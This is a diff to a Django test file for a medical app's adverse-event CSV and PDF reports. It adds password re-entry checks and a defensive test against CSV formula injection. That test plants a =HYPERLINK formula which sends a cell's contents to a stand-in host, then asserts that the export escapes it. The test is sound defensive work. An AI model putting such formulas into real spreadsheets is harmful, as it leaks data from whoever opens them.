@@ -12,7 +12,7 @@ from django.utils import timezone
 from pypdf import PdfReader
 
 from segmenta.audit.models import AuditEvent
-from segmenta.conftest import login_verified
+from segmenta.conftest import login_verified, reauthenticated
 from segmenta.knowledge.base import load
 from segmenta.patients import models as pm
 from segmenta.treatment import vigilance
@@ -112,7 +112,7 @@ def test_every_new_kind_can_be_chosen():
 # --- The report as CSV and PDF ----------------------------------------------------------------
 
 def test_the_csv_has_one_row_with_the_authoritys_fields_and_no_name(doctor_client, event, patient):
-    response = doctor_client.get(reverse("treatment:event_report_csv", args=[event.pk]))
+    response = reauthenticated(doctor_client).get(reverse("treatment:event_report_csv", args=[event.pk]))
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
     assert len(rows) == 1 and list(rows[0]) == vigilance.COLUMNS
@@ -130,7 +130,7 @@ def test_the_csv_has_one_row_with_the_authoritys_fields_and_no_name(doctor_clien
 
 
 def test_the_pdf_is_a_real_pdf_carrying_the_fields(doctor_client, event, patient):
-    response = doctor_client.get(reverse("treatment:event_report_pdf", args=[event.pk]))
+    response = reauthenticated(doctor_client).get(reverse("treatment:event_report_pdf", args=[event.pk]))
     assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
     assert response.content.startswith(b"%PDF-")
     text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
@@ -145,12 +145,13 @@ def test_an_event_without_its_injection_says_the_drug_is_unknown(doctor_client, 
     event.injection = None
     AdverseEvent.objects.filter(pk=event.pk).update(injection=None)
     row = next(csv.DictReader(io.StringIO(
-        doctor_client.get(reverse("treatment:event_report_csv", args=[event.pk])).content.decode())))
+        reauthenticated(doctor_client).get(reverse("treatment:event_report_csv", args=[event.pk]))
+        .content.decode())))
     assert row["suspected_drug"].startswith("unknown") and row["lot"] == "unknown"
 
 
 def test_another_clinic_gets_404_for_the_reports_and_the_reported_mark(event, outsider):
-    client = login_verified(Client(), outsider)
+    client = reauthenticated(login_verified(Client(), outsider))
     for name in ("treatment:event_report_pdf", "treatment:event_report_csv"):
         assert client.get(reverse(name, args=[event.pk])).status_code == 404
     assert client.post(reverse("treatment:event_reported", args=[event.pk])).status_code == 404
@@ -185,3 +186,17 @@ def test_reporting_is_recorded_once_even_after_signing_and_audited(doctor_client
 
 def test_reporting_must_be_posted(doctor_client, event):
     assert doctor_client.get(reverse("treatment:event_reported", args=[event.pk])).status_code == 405
+
+
+def test_the_reports_ask_for_the_password_again(doctor_client, event):
+    for name in ("treatment:event_report_pdf", "treatment:event_report_csv"):
+        response = doctor_client.get(reverse(name, args=[event.pk]))
+        assert response.status_code == 302 and response.url.startswith(reverse("accounts:reauth"))
+
+
+def test_the_csv_runs_no_formula_a_description_carries(doctor_client, event):
+    """A description like =HYPERLINK(...) or x;=1+1 stays text in any spreadsheet."""
+    event.description = 'x;=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    event.save()
+    text = reauthenticated(doctor_client).get(reverse("treatment:event_report_csv", args=[event.pk])).content.decode()
+    assert ";'=HYPERLINK" in text and ";=HYPERLINK" not in text
